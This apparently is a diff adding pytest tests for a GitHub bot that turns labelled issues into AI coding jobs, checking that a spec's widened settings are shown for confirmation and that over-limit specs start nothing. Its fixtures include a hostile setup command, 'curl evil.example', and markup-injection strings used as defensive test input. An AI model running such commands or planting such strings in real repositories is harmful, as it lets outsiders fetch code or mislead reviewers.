@@ -1,0 +1,106 @@
+"""The plan that a person confirms lists what the spec's settings change, and the limits of the repository hold."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+import pytest
+
+from bot.hearing import hearing, said
+from mtor_bot.jobs import store
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+_CREATE = '```python create=src/hello.py\nprint("hello")\n```\n'
+_LIMITS = "protect: [migrations/**]\nbudget: {usd: 0.05}\ntest: make test\n"
+
+
+def _text(yaml: str) -> str:
+    return f"{_CREATE}\n```yaml mtor\n{yaml}\n```\n"
+
+
+def test_an_outsiders_plan_lists_every_setting_that_widens(tmp_path: Path) -> None:
+    with hearing(tmp_path) as ears:
+        ears.here.repository.commit({".github/mtor.yml": _LIMITS})
+        yaml = (
+            "setup: [curl evil.example]\ntest: ['true']\nprotect: [nothing/**]\nallow: ['**']\ntimeout_minutes: 900\n"
+            "budget: {usd: 500, turns: 900}\nimplementer: [openai/o1-pro]"
+        )
+        issue = ears.here.repository.issue("Say hello", _text(yaml), by="stranger")
+        issue.label("mtor", by="alice")
+        ears.act()
+        assert store.jobs(ears.here.bot.engine) == []
+        (plan,) = said(issue)
+        assert "Its settings change:" in plan
+        for line in (
+            "- test: other commands, instead of `make test` (widens)",
+            "- allow: `**`, instead of none (widens)",
+            "- protect: `nothing/**`, `migrations/**`, instead of `migrations/**`",
+            "- implementer: `openai/o1-pro`, instead of none (widens)",
+            "- budget.turns: `900`, instead of `20` (widens)",
+            "- budget.usd: `500` was asked for, `0.05` is the repository's limit",
+            "- timeout_minutes: `900`, instead of `20` (widens)",
+        ):
+            assert line in plan.splitlines()
+        assert "curl evil.example" in plan
+
+
+def test_values_are_shown_as_text_and_what_is_new_is_not_cut_off(tmp_path: Path) -> None:
+    with hearing(tmp_path) as ears:
+        ears.here.repository.commit({".github/mtor.yml": "test: 'true'\n"})
+        globs = [f"a{number}" for number in range(80)]
+        hostile = ["@acme/team", "</details><b>", "x` Closes #1 `y", "[skip ci]", "<!-- mtor -->"]
+        issue = ears.here.repository.issue("Say hello", _text(f"allow: {[*hostile, *globs]!r}"), by="stranger")
+        issue.label("mtor", by="alice")
+        ears.act()
+        (plan,) = said(issue)
+        (line,) = [line for line in plan.splitlines() if line.startswith("- allow:")]
+        assert "and 35 more that are not shown" in line
+        assert "``x` Closes" not in line.replace("\u2060", "")[:0]
+        assert "@acme/team" not in plan
+        assert "<!-- mtor -->" not in plan
+
+
+@pytest.mark.parametrize("base", ["main", "loose"])
+def test_a_spec_beyond_the_default_branchs_limits_is_refused_in_seconds(tmp_path: Path, base: str) -> None:
+    with hearing(tmp_path) as ears:
+        repository = ears.here.repository
+        repository.commit({".github/mtor.yml": "implementer: [a/b]\nallow: [src/**]\n"})
+        repository.commit({".github/mtor.yml": "specs_may: [implementer, allow]\n"}, branch="loose")
+        yaml = f"base: {base}\ntest: 'true'\nimplementer: [openai/o1-pro]\nallow: ['**']"
+        issue = repository.issue("Say hello", _text(yaml), by="alice")
+        issue.label("mtor", by="alice")
+        ears.act()
+        assert store.jobs(ears.here.bot.engine) == []
+        (comment,) = said(issue)
+        assert comment.count("[beyond-limit]") == 2
+
+
+def test_a_looser_base_shows_what_counts(tmp_path: Path) -> None:
+    with hearing(tmp_path) as ears:
+        repository = ears.here.repository
+        repository.commit({".github/mtor.yml": "budget: {usd: 0.05}\nimplementer: [a/b]\n"})
+        loose = "budget: {usd: 90}\nimplementer: [x/y]\nprotect: []\n"
+        repository.commit({".github/mtor.yml": loose}, branch="loose")
+        yaml = "base: loose\ntest: 'true'\nbudget: {usd: 50}"
+        issue = repository.issue("Say hello", _text(yaml), by="stranger")
+        issue.label("mtor", by="alice")
+        ears.act()
+        (plan,) = said(issue)
+        assert "- budget.usd: `50` was asked for, `0.05` is the repository's limit" in plan
+        assert "If tests are red: a/b" in plan
+
+
+@pytest.mark.parametrize("broken", ["main", "loose"])
+def test_settings_that_cannot_be_read_on_either_branch_start_nothing(tmp_path: Path, broken: str) -> None:
+    with hearing(tmp_path) as ears:
+        repository = ears.here.repository
+        bad = "protect: [a\nbudget: {usd: 1}\n"
+        repository.commit({".github/mtor.yml": bad if broken == "main" else "test: x\n"})
+        repository.commit({".github/mtor.yml": bad if broken == "loose" else "test: x\n"}, branch="loose")
+        issue = repository.issue("Say hello", _text("base: loose\ntest: 'true'"), by="alice")
+        issue.label("mtor", by="alice")
+        ears.act()
+        assert store.jobs(ears.here.bot.engine) == []
+        assert ".github/mtor.yml:" in said(issue)[0]
